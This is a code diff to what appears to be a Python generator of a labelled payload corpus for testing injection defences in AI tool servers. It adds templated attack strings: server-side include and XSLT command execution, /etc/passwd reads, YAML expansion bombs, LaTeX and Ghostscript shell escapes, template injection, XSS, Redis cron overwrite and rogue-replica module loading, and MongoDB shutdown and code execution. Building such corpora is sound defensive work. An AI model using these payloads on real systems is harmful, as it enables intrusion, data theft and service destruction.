@@ -365,6 +365,33 @@ HEADER_WORDS = {
     "host": ["evil.example", "attacker.example.org"],
 }
 
+SERVED = lines("""
+<!--#exec cmd="<cmd>" -->
+<!--#include virtual="/etc/passwd" -->
+<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(),'<cmd>')"/></xsl:template></xsl:stylesheet>
+<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function('system','<cmd>')"/></xsl:template></xsl:stylesheet>
+a: &a ["x","x","x"]¶b: &b [*a,*a,*a,*a,*a,*a,*a,*a]¶c: &c [*b,*b,*b,*b,*b,*b,*b,*b]¶d: [*c,*c,*c,*c,*c,*c,*c,*c]
+\\immediate\\write18{<cmd>}
+\\input{/etc/passwd}
+%!PS¶(%pipe%<cmd>) (r) file
+push graphic-context¶fill 'url(https://<host>/a.jpg"|<cmd>")'¶pop graphic-context
+class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{<w>}i
+${script:javascript:java.lang.Runtime.getRuntime().exec('<cmd>')}
+${dns:address|<w>.<host>}
+{{request|attr('application')|attr('__globals__')}}
+<style>body{background:url(javascript:alert(1))}</style>
+<base href="http://<host>/"><script src="<w>.js"></script>
+<meta http-equiv="refresh" content="0;url=javascript:alert(<n>)">
+""")
+STORED = lines("""
+<w>§§CONFIG SET dir /var/spool/cron/§§CONFIG SET dbfilename root§§SAVE§§
+<w>§§SLAVEOF <host> 6379§§MODULE LOAD /tmp/<w>.so§§
+EVAL "return os.execute('<cmd>')" 0
+db.<w>.drop(); db.adminCommand({shutdown: 1})
+'; return db.getCollectionNames(); var a='
+{"mapReduce": "<w>", "map": "function(){ while(true){} }"}
+{"$function": {"body": "function(){ return require('child_process').execSync('<cmd>') }", "args": [], "lang": "js"}}
+""")
 HOSTS = lines("""
 169.254.169.254
 [fd00:ec2::254]
@@ -495,6 +522,10 @@ def build() -> Corpus:
     objects = "owasp:MCP05 atlas:AML.T0049 cwe:502 deserialization"
     words = TEMPLATE_WORDS | {"w": ["a", "b", "p"]}
     add(70, "deserialization", objects, "document", "object", lambda: filled(rng, rng.choice(OBJECTS), words))
+    served = "owasp:MCP05 atlas:AML.T0049 cwe:94"
+    add(60, "document-injection", served, "document", "served", lambda: filled(rng, rng.choice(SERVED), words))
+    stored = "owasp:MCP05 atlas:AML.T0049 cwe:943"
+    add(20, "store-commands", stored, "word", "store", lambda: filled(rng, rng.choice(STORED), words))
     header = "owasp:MCP05 atlas:AML.T0049 cwe:113"
     add(
         50,
